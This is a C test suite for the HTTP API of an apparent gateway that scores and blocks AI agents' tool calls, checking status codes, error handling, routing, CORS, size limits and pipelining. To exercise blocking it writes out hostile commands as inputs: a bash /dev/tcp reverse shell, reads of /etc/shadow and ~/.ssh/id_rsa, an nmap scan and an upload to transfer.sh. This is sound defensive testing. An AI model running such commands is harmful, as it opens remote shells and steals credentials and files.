/* The HTTP API of the real gateway binary: status codes, error shapes,
 * every tool-call variant, routing, CORS and body limits. */
#include <criterion/criterion.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "support/support.h"

static px_t_gateway gw;

static void start_default(void)
{
    const char *env[] = {"WORKER_THREADS=2", "MAX_BODY_BYTES=65536", NULL};
    cr_assert_eq(px_t_gateway_start(&gw, env, 15000), 0, "gateway did not start");
}

static void stop(void)
{
    cr_expect_eq(px_t_gateway_stop(&gw, SIGTERM, 10000), 0);
}

TestSuite(api, .init = start_default, .fini = stop, .timeout = 60);

static void expect_error(const px_t_resp *r, int status, const char *code)
{
    cr_expect_eq(r->status, status, "status %d, body %s", r->status, r->body);
    cr_expect(strncmp(r->content_type, "application/json", 16) == 0, "content-type %s", r->content_type);
    cJSON *j = px_t_json(r);
    cr_assert_not_null(j, "error body is not JSON: %s", r->body);
    const cJSON *e = cJSON_GetObjectItemCaseSensitive(j, "error");
    cr_assert(cJSON_IsObject(e), "no error object: %s", r->body);
    cr_expect_str_eq(px_t_json_str(e, "code"), code);
    const char *msg = px_t_json_str(e, "message");
    cr_expect(msg != NULL && msg[0] != '\0', "empty message");
    cJSON_Delete(j);
}

Test(api, allowed_call_is_200_with_the_full_response_shape)
{
    px_t_resp r;
    char *body = px_t_bash_body("ls -la", "dev@example.com", "s-shape");
    cr_assert_eq(px_t_analyze(gw.port, body, &r), 0);
    free(body);
    cr_expect_eq(r.status, 200, "%s", r.body);
    cJSON *j = px_t_json(&r);
    cr_assert_not_null(j);
    cr_expect_str_eq(px_t_json_str(j, "decision"), "Allow");
    cr_expect_lt(px_t_json_num(j, "threat_score", -1), 50);
    cr_expect_geq(px_t_json_num(j, "threat_score", -1), 0);
    cr_expect_str_eq(px_t_json_str(j, "session_id"), "s-shape");
    cr_expect(cJSON_IsArray(cJSON_GetObjectItem(j, "patterns")));
    cr_expect(cJSON_IsArray(cJSON_GetObjectItem(j, "analyzers")));
    cr_expect(cJSON_IsArray(cJSON_GetObjectItem(j, "rules")));
    cr_expect(cJSON_IsFalse(cJSON_GetObjectItem(j, "session_terminated")));
    cJSON_Delete(j);
    px_t_resp_free(&r);
}

Test(api, blocked_call_is_403_with_message_rules_and_analyzers)
{
    px_t_resp r;
    char *body = px_t_bash_body("nmap -sV 10.0.0.0/24", "dev@example.com", "s-block");
    cr_assert_eq(px_t_analyze(gw.port, body, &r), 0);
    free(body);
    cr_expect_eq(r.status, 403, "%s", r.body);
    cJSON *j = px_t_json(&r);
    cr_assert_not_null(j);
    cr_expect_geq(px_t_json_num(j, "threat_score", 0), 70);
    const char *d = px_t_json_str(j, "decision");
    cr_expect(d != NULL && (strcmp(d, "Block") == 0 || strcmp(d, "Terminate") == 0), "%s", d);
    cr_expect_not_null(px_t_json_str(j, "message"));
    const cJSON *an = cJSON_GetObjectItem(j, "analyzers");
    cr_assert_gt(cJSON_GetArraySize(an), 0);
    cr_expect_not_null(px_t_json_str(cJSON_GetArrayItem(an, 0), "name"));
    cr_expect_gt(px_t_json_num(cJSON_GetArrayItem(an, 0), "score", 0), 0);
    cr_expect_gt(cJSON_GetArraySize(cJSON_GetObjectItem(j, "rules")), 0);
    cJSON_Delete(j);
    px_t_resp_free(&r);
}

Test(api, session_id_is_generated_when_absent)
{
    px_t_resp r;
    cr_assert_eq(px_t_analyze(gw.port, "{\"tool_call\":{\"Bash\":{\"command\":\"pwd\"}},\"user_id\":\"u\"}", &r), 0);
    cJSON *j = px_t_json(&r);
    const char *sid = px_t_json_str(j, "session_id");
    cr_expect(sid != NULL && strlen(sid) > 8, "no generated session id: %s", r.body);
    cJSON_Delete(j);
    px_t_resp_free(&r);
}

Test(api, every_tool_call_variant_is_analysed)
{
    static const struct {
        const char *json;
        int         min_score;   /* -1: must be allowed */
    } cases[] = {
        {"{\"tool_call\":{\"Filesystem\":{\"operation\":\"Read\",\"path\":\"/etc/shadow\",\"content\":null}},\"user_id\":\"u\"}", 70},
        {"{\"tool_call\":{\"Filesystem\":{\"operation\":\"Read\",\"path\":\"src/main.c\",\"content\":null}},\"user_id\":\"u\"}", -1},
        {"{\"tool_call\":{\"Network\":{\"method\":\"PUT\",\"url\":\"https://transfer.sh/x.tar\",\"headers\":{},\"body\":null}},\"user_id\":\"u\"}", 70},
        {"{\"tool_call\":{\"Network\":{\"method\":\"GET\",\"url\":\"https://docs.python.org/3/\",\"headers\":{},\"body\":null}},\"user_id\":\"u\"}", -1},
        {"{\"tool_call\":{\"Database\":{\"query\":\"SELECT id FROM users WHERE id = 1\",\"connection\":\"pg\"}},\"user_id\":\"u\"}", -1},
        {"{\"tool_call\":{\"Unknown\":{\"anything\":{\"cmd\":\"cat /etc/shadow\"}}},\"user_id\":\"u\"}", 70},
        {"{\"name\":\"read_file\",\"arguments\":{\"path\":\"/etc/shadow\"},\"user_id\":\"u\"}", 70},
        {"{\"name\":\"bash\",\"arguments\":{\"command\":\"nmap -sV 10.0.0.0/24\"},\"user_id\":\"u\"}", 70},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        px_t_resp r;
        cr_assert_eq(px_t_analyze(gw.port, cases[i].json, &r), 0, "case %zu", i);
        cJSON *j = px_t_json(&r);
        cr_assert_not_null(j, "case %zu: %s", i, r.body);
        double s = px_t_json_num(j, "threat_score", -1);
        if (cases[i].min_score < 0) {
            cr_expect_eq(r.status, 200, "case %zu: %s", i, r.body);
            cr_expect_lt(s, 50, "case %zu: %s", i, r.body);
        } else {
            cr_expect_eq(r.status, 403, "case %zu: %s", i, r.body);
            cr_expect_geq(s, cases[i].min_score, "case %zu: %s", i, r.body);
        }
        cJSON_Delete(j);
        px_t_resp_free(&r);
    }
}

Test(api, bad_requests_get_json_errors_with_the_right_status)
{
    static const struct {
        const char *headers;
        const char *body;
        int         status;
        const char *code;
    } cases[] = {
        {"Content-Type: application/json\r\n", "{\"tool_call\":", 400, "invalid_json"},
        {"Content-Type: application/json\r\n", "", 400, "invalid_json"},
        {"Content-Type: application/json\r\n", "{\"tool_call\":{\"Bash\":{\"command\":1}},\"user_id\":\"u\"}", 422, "invalid_request"},
        {"Content-Type: application/json\r\n", "{\"tool_call\":{\"Bash\":{\"command\":\"ls\"}}}", 422, "invalid_request"},
        {"Content-Type: text/plain\r\n", "{}", 415, "unsupported_media_type"},
        {NULL, "{}", 415, "unsupported_media_type"},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        px_t_resp r;
        cr_assert_eq(px_t_http(gw.port, "POST", "/analyze", cases[i].headers, cases[i].body, strlen(cases[i].body), &r), 0);
        expect_error(&r, cases[i].status, cases[i].code);
        px_t_resp_free(&r);
    }
}

Test(api, unknown_path_is_404_and_wrong_method_is_405_with_allow)
{
    px_t_resp r;
    cr_assert_eq(px_t_http(gw.port, "GET", "/nope", NULL, NULL, 0, &r), 0);
    expect_error(&r, 404, "not_found");
    px_t_resp_free(&r);
    /* Exact matching: a prefix of a route is not the route. */
    cr_assert_eq(px_t_http(gw.port, "GET", "/healthz", NULL, NULL, 0, &r), 0);
    expect_error(&r, 404, "not_found");
    px_t_resp_free(&r);
    cr_assert_eq(px_t_http(gw.port, "GET", "/analyze", NULL, NULL, 0, &r), 0);
    expect_error(&r, 405, "method_not_allowed");
    cr_expect_str_eq(r.allow, "POST");
    px_t_resp_free(&r);
    cr_assert_eq(px_t_http(gw.port, "DELETE", "/health", NULL, NULL, 0, &r), 0);
    expect_error(&r, 405, "method_not_allowed");
    cr_expect_str_eq(r.allow, "GET");
    px_t_resp_free(&r);
}

Test(api, oversized_bodies_get_413_json_by_length_and_by_chunks)
{
    size_t n = 70000;
    char *big = malloc(n);
    memset(big, 'a', n);
    px_t_resp r;
    cr_assert_eq(px_t_http(gw.port, "POST", "/analyze", "Content-Type: application/json\r\n", big, n, &r), 0);
    expect_error(&r, 413, "payload_too_large");
    px_t_resp_free(&r);
    /* Chunked: the limit applies to the decoded body too. */
    px_t_conn c;
    cr_assert_eq(px_t_conn_open(&c, gw.port), 0);
    const char *head = "POST /analyze HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                       "Transfer-Encoding: chunked\r\n\r\n";
    char chunk[64];
    snprintf(chunk, sizeof(chunk), "%zx\r\n", n);
    size_t total = strlen(head) + strlen(chunk) + n + 7;
    char *raw = malloc(total + 1);
    size_t o = 0;
    memcpy(raw + o, head, strlen(head));
    o += strlen(head);
    memcpy(raw + o, chunk, strlen(chunk));
    o += strlen(chunk);
    memcpy(raw + o, big, n);
    o += n;
    memcpy(raw + o, "\r\n0\r\n\r\n", 7);
    o += 7;
    cr_assert_eq(px_t_conn_raw(&c, raw, o, &r), 0);
    expect_error(&r, 413, "payload_too_large");
    px_t_resp_free(&r);
    px_t_conn_close(&c);
    free(raw);
    free(big);
}

Test(api, cors_allows_any_origin_by_default_and_answers_preflight)
{
    px_t_resp r;
    cr_assert_eq(px_t_http(gw.port, "GET", "/health", "Origin: https://app.example\r\n", NULL, 0, &r), 0);
    cr_expect_str_eq(r.cors_origin, "*");
    px_t_resp_free(&r);
    cr_assert_eq(px_t_http(gw.port, "OPTIONS", "/analyze",
                           "Origin: https://app.example\r\nAccess-Control-Request-Method: POST\r\n", NULL, 0, &r),
                 0);
    cr_expect_eq(r.status, 204);
    cr_expect_str_eq(r.cors_origin, "*");
    px_t_resp_free(&r);
}

Test(api, keep_alive_serves_many_requests_on_one_connection)
{
    px_t_conn c;
    cr_assert_eq(px_t_conn_open(&c, gw.port), 0);
    char *body = px_t_bash_body("git status", "u", "s-ka");
    for (int i = 0; i < 200; i++) {
        px_t_resp r;
        cr_assert_eq(px_t_conn_request(&c, "POST", "/analyze", "Content-Type: application/json\r\n", body,
                                       strlen(body), &r),
                     0, "request %d", i);
        cr_expect_eq(r.status, 200);
        cr_expect(r.keep_alive);
        px_t_resp_free(&r);
    }
    free(body);
    px_t_conn_close(&c);
}

/* Responses are written when the loop turn that made them ends (see
 * px_http_send): requests sent in one write must still get their own
 * answers, in order, on the same connection. */
Test(api, pipelined_requests_get_their_answers_in_order)
{
    static const struct {
        const char *cmd; /* NULL: GET /health */
        int         status;
        const char *decision;
    } want[] = {
        {"ls -la", 200, "Allow"},
        {"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", 403, NULL},
        {NULL, 200, NULL},
        {"git status", 200, "Allow"},
        {"cat /etc/shadow", 403, NULL},
    };
    enum { N = sizeof(want) / sizeof(want[0]) };
    px_t_conn c;
    cr_assert_eq(px_t_conn_open(&c, gw.port), 0);
    char all[8192];
    size_t len = 0;
    for (int i = 0; i < N; i++) {
        if (want[i].cmd == NULL) {
            len += (size_t)snprintf(all + len, sizeof(all) - len, "GET /health HTTP/1.1\r\nHost: t\r\n\r\n");
            continue;
        }
        char sid[32];
        snprintf(sid, sizeof(sid), "s-pipe-%d", i);
        char *body = px_t_bash_body(want[i].cmd, "u", sid);
        len += (size_t)snprintf(all + len, sizeof(all) - len,
                                "POST /analyze HTTP/1.1\r\nHost: t\r\nContent-Type: application/json\r\n"
                                "Content-Length: %zu\r\n\r\n%s",
                                strlen(body), body);
        free(body);
    }
    cr_assert_lt(len, sizeof(all));
    px_t_resp r;
    cr_assert_eq(px_t_conn_raw(&c, all, len, &r), 0, "no first response");
    for (int i = 0; i < N; i++) {
        if (i > 0)
            cr_assert_eq(px_t_conn_read(&c, &r), 0, "no response %d", i);
        cr_expect_eq(r.status, want[i].status, "response %d: status %d, body %s", i, r.status, r.body);
        cJSON *j = px_t_json(&r);
        cr_assert_not_null(j, "response %d is not JSON: %s", i, r.body);
        if (want[i].cmd == NULL) {
            cr_expect_not_null(px_t_json_str(j, "status"), "response %d is not the health report: %s", i, r.body);
        } else {
            char sid[32];
            snprintf(sid, sizeof(sid), "s-pipe-%d", i);
            cr_expect_str_eq(px_t_json_str(j, "session_id"), sid, "response %d answers another request", i);
            if (want[i].decision != NULL)
                cr_expect_str_eq(px_t_json_str(j, "decision"), want[i].decision);
            else
                cr_expect_geq(px_t_json_num(j, "threat_score", -1), 70, "response %d: %s", i, r.body);
        }
        cJSON_Delete(j);
        px_t_resp_free(&r);
    }
    px_t_conn_close(&c);
}

Test(api, health_reports_service_mode_and_store)
{
    px_t_resp r;
    cr_assert_eq(px_t_http(gw.port, "GET", "/health", NULL, NULL, 0, &r), 0);
    cJSON *j = px_t_json(&r);
    cr_expect_str_eq(px_t_json_str(j, "status"), "healthy");
    cr_expect_str_eq(px_t_json_str(j, "service"), "proxilion-gateway");
    cr_expect_str_eq(px_t_json_str(j, "mode"), "block");
    cr_expect_str_eq(px_t_json_str(j, "session_store"), "memory");
    cr_expect_not_null(px_t_json_str(j, "version"));
    cr_expect(cJSON_IsNull(cJSON_GetObjectItem(j, "redis_connected")));
    cJSON_Delete(j);
    px_t_resp_free(&r);
}

Test(api, explain_returns_the_trace)
{
    px_t_resp r;
    cr_assert_eq(px_t_analyze(gw.port, "{\"tool_call\":{\"Bash\":{\"command\":\"nmap -sV 10.0.0.1\"}},\"user_id\":\"u\",\"explain\":true}", &r), 0);
    cJSON *j = px_t_json(&r);
    const char *ex = px_t_json_str(j, "explain");
    cr_assert_not_null(ex, "%s", r.body);
    cr_expect(strstr(ex, "normalised actions") != NULL);
    cr_expect(strstr(ex, "threat score") != NULL);
    cJSON_Delete(j);
    px_t_resp_free(&r);
}

Test(api, demo_runs_ten_steps_in_a_throwaway_session)
{
    px_t_resp r;
    cr_assert_eq(px_t_http(gw.port, "POST", "/demo/gtg1002", NULL, NULL, 0, &r), 0);
    cr_expect_eq(r.status, 200);
    cJSON *j = px_t_json(&r);
    cr_assert_not_null(j);
    const cJSON *steps = cJSON_GetObjectItem(j, "steps");
    cr_expect_eq(cJSON_GetArraySize(steps), 10, "block mode runs all ten steps");
    const char *sid = px_t_json_str(j, "session_id");
    cr_expect(sid != NULL && strncmp(sid, "demo-", 5) == 0);
    const cJSON *first = cJSON_GetArrayItem(steps, 0);
    cr_expect_str_eq(px_t_json_str(first, "command"), "whoami");
    cr_expect_not_null(px_t_json_str(first, "decision"));
    cr_expect(cJSON_IsArray(cJSON_GetObjectItem(first, "patterns")));
    /* The credential theft step must score high. */
    double key_step = px_t_json_num(cJSON_GetArrayItem(steps, 5), "threat_score", 0);
    cr_expect_geq(key_step, 70, "cat ~/.ssh/id_rsa scored %.1f", key_step);
    cJSON_Delete(j);
    px_t_resp_free(&r);
}
